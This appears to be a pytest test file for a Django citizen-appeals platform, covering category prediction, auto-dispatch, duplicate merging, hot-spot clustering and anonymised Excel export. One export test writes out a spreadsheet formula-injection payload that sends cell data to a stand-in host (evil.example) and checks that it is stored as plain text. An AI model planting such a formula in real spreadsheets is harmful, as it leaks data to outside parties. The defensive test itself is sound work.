"""The insight side of the loop: prediction on commit, auto-dispatch, duplicates on the pages, hot spots."""

import io
from datetime import timedelta

import pytest
from django.test import Client

from gongzhi.appeals.choices import AppealState
from gongzhi.appeals.models import Appeal
from gongzhi.core.choices import Role
from gongzhi.core.testing import make_user
from gongzhi.insight import classifier, live
from gongzhi.insight.models import AppealPrediction, HotSpot, HotSpotMember

IMMEDIATE = {"default": {"BACKEND": "django.tasks.backends.immediate.ImmediateBackend"}}
LEAK = ("小区违章建筑没人管", "A3区幸福小区一楼住户违章搭建，占用消防通道，城管不管。")


@pytest.fixture
def insight_on(settings, tiny_model_path):
    settings.INSIGHT_CLASSIFIER_MODEL = str(tiny_model_path)
    settings.TASKS = IMMEDIATE
    classifier.default_model.cache_clear()
    live._INDEXES.clear()
    yield settings
    classifier.default_model.cache_clear()
    live._INDEXES.clear()


def login(user) -> Client:
    c = Client()
    c.force_login(user)
    return c


def submit(make_appeal, capture, actor=None, title=LEAK[0], content=LEAK[1], **kw) -> Appeal:
    with capture(execute=True):
        appeal = make_appeal(actor, title=title, content=content, **kw)
    return appeal


def test_new_appeal_gets_top3_and_the_suggested_unit_on_commit(
    insight_on, make_appeal, dispatch_rule, django_capture_on_commit_callbacks
):
    appeal = submit(make_appeal, django_capture_on_commit_callbacks, category=None)
    p = AppealPrediction.objects.get(appeal=appeal)
    assert p.top3[0]["name"] == "城乡建设"
    assert len(p.top3) == 3 and p.top3[0]["confidence"] >= p.top3[1]["confidence"] >= p.top3[2]["confidence"]
    assert p.category_id == dispatch_rule.category_id
    assert p.suggested_unit_id == dispatch_rule.unit_id
    assert "tiny.joblib" in p.model_version
    appeal.refresh_from_db()
    assert appeal.state == AppealState.RECEIVED  # auto-dispatch is off by default
    assert not p.auto_dispatched


def test_nothing_runs_before_commit(insight_on, make_appeal, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=False) as callbacks:
        appeal = make_appeal(title=LEAK[0], content=LEAK[1])
    assert callbacks and not AppealPrediction.objects.filter(appeal=appeal).exists()


def test_a_broken_task_backend_never_breaks_submission(
    settings, make_appeal, django_capture_on_commit_callbacks
):
    settings.TASKS = {"default": {"BACKEND": "no.such.Backend"}}
    appeal = submit(make_appeal, django_capture_on_commit_callbacks)
    assert Appeal.objects.filter(pk=appeal.pk, state=AppealState.RECEIVED).exists()
    assert not AppealPrediction.objects.filter(appeal=appeal).exists()


def test_auto_dispatch_above_the_configured_confidence(
    insight_on, make_appeal, dispatch_rule, units, django_capture_on_commit_callbacks
):
    insight_on.GONGZHI = {**insight_on.GONGZHI, "AUTO_DISPATCH_CONFIDENCE": 0.0}
    make_user("system-dispatcher", Role.DISPATCHER, unit=units["hotline"], is_staff=True)
    appeal = submit(make_appeal, django_capture_on_commit_callbacks, category=None)
    appeal.refresh_from_db()
    assert appeal.state == AppealState.DISPATCHED
    assert appeal.lead_unit_id == dispatch_rule.unit_id
    assert appeal.category_id == dispatch_rule.category_id
    assert AppealPrediction.objects.get(appeal=appeal).auto_dispatched


def test_auto_dispatch_needs_the_system_dispatcher(
    insight_on, make_appeal, dispatch_rule, django_capture_on_commit_callbacks
):
    insight_on.GONGZHI = {**insight_on.GONGZHI, "AUTO_DISPATCH_CONFIDENCE": 0.0}
    appeal = submit(make_appeal, django_capture_on_commit_callbacks, category=None)
    appeal.refresh_from_db()
    assert appeal.state == AppealState.RECEIVED


def test_dispatcher_sees_the_prediction_and_the_form_preselects_it(
    insight_on, make_appeal, dispatch_rule, users, django_capture_on_commit_callbacks
):
    appeal = submit(make_appeal, django_capture_on_commit_callbacks, category=None)
    html = login(users["dispatcher"]).get(f"/appeals/{appeal.pk}/").content.decode()
    assert 'id="prediction"' in html and "城乡建设" in html and "县住建局" in html
    assert f'<option value="{dispatch_rule.unit_id}" selected>' in html
    assert f'<option value="{dispatch_rule.category_id}" selected>' in html
    # one click confirms: post the form as preselected
    response = login(users["dispatcher"]).post(
        f"/appeals/{appeal.pk}/act/dispatch/",
        {"dispatch-lead_unit": dispatch_rule.unit_id, "dispatch-category": dispatch_rule.category_id},
    )
    assert response.status_code == 302
    appeal.refresh_from_db()
    assert appeal.state == AppealState.DISPATCHED and appeal.category_id == dispatch_rule.category_id
    # residents do not see the prediction
    assert 'id="prediction"' not in login(users["resident"]).get(f"/appeals/{appeal.pk}/").content.decode()


def test_duplicates_on_the_success_page_and_one_click_merge(
    insight_on, make_appeal, users, django_capture_on_commit_callbacks
):
    first = submit(make_appeal, django_capture_on_commit_callbacks, actor=users["resident2"])
    c = login(users["resident"])
    second = submit(make_appeal, django_capture_on_commit_callbacks)
    session = c.session
    session["submitted"] = {"id": second.pk, "number": second.number, "code": ""}
    session.save()
    html = c.get("/appeals/new/done/").content.decode()
    assert "同样的问题已有人反映，是否附议？" in html and first.number in html
    d = login(users["dispatcher"])
    html = d.get(f"/appeals/{second.pk}/").content.decode()
    assert 'id="similar"' in html and first.number in html and "并入此单" in html
    response = d.post(f"/appeals/{second.pk}/act/merge_into/", {"merge_into-master": first.number})
    assert response.status_code == 302
    second.refresh_from_db()
    assert second.state == AppealState.MERGED and second.master_id == first.pk


def test_unrelated_appeal_has_no_duplicates(
    insight_on, make_appeal, users, django_capture_on_commit_callbacks
):
    submit(make_appeal, django_capture_on_commit_callbacks)
    other = submit(
        make_appeal,
        django_capture_on_commit_callbacks,
        title="孩子入学咨询",
        content="请问外地户籍孩子在本区上小学需要准备哪些材料，什么时候报名？",
    )
    html = login(users["dispatcher"]).get(f"/appeals/{other.pk}/").content.decode()
    assert 'id="similar"' not in html


def test_hot_spot_opens_joins_and_merges(insight_on, make_appeal, users, django_capture_on_commit_callbacks):
    a = submit(make_appeal, django_capture_on_commit_callbacks)
    assert not HotSpot.objects.exists()  # a single appeal is no hot spot
    b = submit(make_appeal, django_capture_on_commit_callbacks, actor=users["resident2"])
    spot = HotSpot.objects.get()
    assert set(spot.members.values_list("appeal_id", flat=True)) == {a.pk, b.pk}
    c = submit(make_appeal, django_capture_on_commit_callbacks)
    spot.refresh_from_db()
    assert spot.size == 3 and spot.residents == 2 and spot.heat > 0
    assert HotSpotMember.objects.get(appeal=c).hotspot_id == spot.pk
    assert spot.start <= spot.end
    # update is idempotent
    assert live.update_hotspots(c.pk).pk == spot.pk
    assert HotSpot.objects.count() == 1 and HotSpotMember.objects.count() == 3


def test_hotspot_page_roles_and_export(
    list_small_hotspots, insight_on, make_appeal, users, django_capture_on_commit_callbacks
):
    from openpyxl import load_workbook

    a = submit(make_appeal, django_capture_on_commit_callbacks)
    submit(make_appeal, django_capture_on_commit_callbacks, actor=users["resident2"])
    spot = HotSpot.objects.get()
    html = login(users["leader"]).get("/insight/hotspots/").content.decode()
    assert f'id="hotspot-{spot.pk}"' in html and a.number in html and "#1" in html
    assert "13800138000" not in html and "resident1" not in html  # anonymised
    assert login(users["resident"]).get("/insight/hotspots/").status_code == 403
    assert login(users["dispatcher"]).get("/insight/hotspots/").status_code == 200
    response = login(users["leader"]).get("/insight/hotspots/export.xlsx")
    assert response.status_code == 200
    wb = load_workbook(io.BytesIO(response.content))
    assert wb.sheetnames == ["热点问题表", "热点问题留言明细表"]
    rows = list(wb["热点问题表"].values)
    assert rows[0][:3] == ("热度排名", "问题ID", "热度指数") and rows[1][0] == 1 and rows[1][1] == spot.pk
    detail = list(wb["热点问题留言明细表"].values)
    assert len(detail) == 3 and {r[2] for r in detail[1:]} == {"居民0001", "居民0002"}

    # A resident's title that a spreadsheet would run (formula injection) is written as text.
    formula = '=HYPERLINK("http://evil.example/?"&A2,"点此查看")'
    Appeal.objects.filter(pk=a.pk).update(title=formula, content="=1+1")
    wb = load_workbook(io.BytesIO(login(users["leader"]).get("/insight/hotspots/export.xlsx").content))
    cells = [
        c
        for row in wb["热点问题留言明细表"].iter_rows(min_row=2)
        for c in row
        if c.value in (formula, "=1+1")
    ]
    assert len(cells) == 2 and all(c.data_type == "s" for c in cells)


def test_an_appeal_linking_two_hot_spots_merges_them(
    insight_on, make_appeal, users, django_capture_on_commit_callbacks
):
    a = submit(make_appeal, django_capture_on_commit_callbacks)
    b = submit(make_appeal, django_capture_on_commit_callbacks, actor=users["resident2"])
    spot = HotSpot.objects.get()
    other = HotSpot.objects.create(label="旧热点")
    HotSpotMember.objects.filter(appeal=b).update(hotspot=other)
    c = submit(make_appeal, django_capture_on_commit_callbacks)
    merged = HotSpotMember.objects.get(appeal=c).hotspot
    assert HotSpot.objects.count() == 1 and merged.pk == min(spot.pk, other.pk)
    assert set(merged.members.values_list("appeal_id", flat=True)) == {a.pk, b.pk, c.pk} and merged.size == 3


def test_hot_spots_stay_within_a_street(insight_on, make_appeal, county, django_capture_on_commit_callbacks):
    submit(make_appeal, django_capture_on_commit_callbacks)
    submit(make_appeal, django_capture_on_commit_callbacks, region=county["other_community"])
    assert not HotSpot.objects.exists()


def test_the_warm_index_adds_only_new_appeals_and_rebuilds_when_stale(
    insight_on, make_appeal, users, django_capture_on_commit_callbacks
):
    a = submit(make_appeal, django_capture_on_commit_callbacks)
    ((index, known),) = live._INDEXES.values()
    assert set(known) == {a.pk}
    b = submit(make_appeal, django_capture_on_commit_callbacks, actor=users["resident2"])
    ((index2, known2),) = live._INDEXES.values()
    assert index2 is index and set(known2) == {a.pk, b.pk}
    known2[a.pk] = known2[a.pk] - timedelta(days=1)  # an id that now names another appeal: rebuild
    live.update_hotspots(b.pk)
    ((index3, _known3),) = live._INDEXES.values()
    assert index3 is not index and HotSpot.objects.get().size == 2


def test_the_prediction_names_the_version_its_model_file_was_trained_as(settings, tmp_path):
    from .conftest import tiny_rows

    path = tmp_path / "tiny-v2.joblib"
    classifier.save(classifier.train(classifier.examples_from_rows(tiny_rows()), method="svm"), path)
    settings.INSIGHT_CLASSIFIER_MODEL = str(path)
    classifier.default_model.cache_clear()
    try:
        assert live.model_version() == "tiny-v2.joblib v2"
    finally:
        classifier.default_model.cache_clear()
